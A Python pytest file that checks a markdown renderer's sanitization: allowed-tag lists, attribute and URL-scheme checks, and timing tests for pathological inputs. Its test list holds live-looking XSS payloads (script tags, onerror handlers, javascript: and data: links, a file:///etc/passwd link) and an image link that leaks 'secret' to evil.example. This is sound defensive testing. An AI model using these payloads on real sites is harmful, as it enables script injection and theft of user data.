"""Whatever a model or a person writes: no tag, attribute or address outside the list."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from ahfai import markdown

TAGS = {
    "p", "br", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "a", "span", "div", "table", "thead", "tbody", "tr", "th", "td", "hr",
    "input",
    "math", "mi", "mn", "mo", "mrow", "msqrt", "mfrac", "msup", "msub", "mtext", "mspace", "mstyle",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "![pixel][1]\n\n[1]: https://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](https://good.example "onmouseover=alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onclick=alert(1)\nx\n```",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\class{evil}{\\style{color:red}{x}}$$",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| <b onclick=alert(1)>x</b> |",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "https://evil.example/'onmouseover='alert(1)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "\u0000<scr\u0000ipt>alert(1)</script>",
]


class Found(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_only_harmless_tags_and_addresses(attack):
    for html in (markdown.render(attack), markdown.render_block(attack)):
        for tag, attributes in Found(html).tags:
            assert tag in TAGS, html
            assert not [name for name in attributes if name.startswith("on")], html
            assert not {"style", "src", "srcdoc", "xlink:href"} & set(attributes), html
            if "href" in attributes:
                assert urlsplit(attributes["href"] or "").scheme in {"http", "https", "mailto"}, (
                    html
                )


def test_a_link_shows_its_host_and_gives_nothing_away():
    html = markdown.render("[my bank](https://evil.example/login)")
    (link,) = [attributes for tag, attributes in Found(html).tags if tag == "a"]
    assert "evil.example" in html.split("</a>")[0].split(">", 2)[-1] + html.split("</a>")[1]
    assert set(link["rel"].split()) >= {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize(
    "bomb",
    ["*a " * 20_000, "[" * 60_000, "> " * 30_000, "- " * 30_000, "`" * 60_000, "$" * 60_000,
     "<a " * 20_000, "![" * 30_000, "**_" * 20_000],
)  # fmt: skip
def test_a_bomb_of_marks_is_rendered_in_time(bomb):
    import time

    began = time.process_time()
    assert markdown.render(bomb)
    assert time.process_time() - began < 5


def test_a_text_beyond_the_limit_is_shown_as_it_was_typed():
    html = markdown.render("<b>" + "x" * 70_000)
    assert "&lt;b&gt;" in html
    assert [tag for tag, _ in Found(html).tags] == ["pre"]
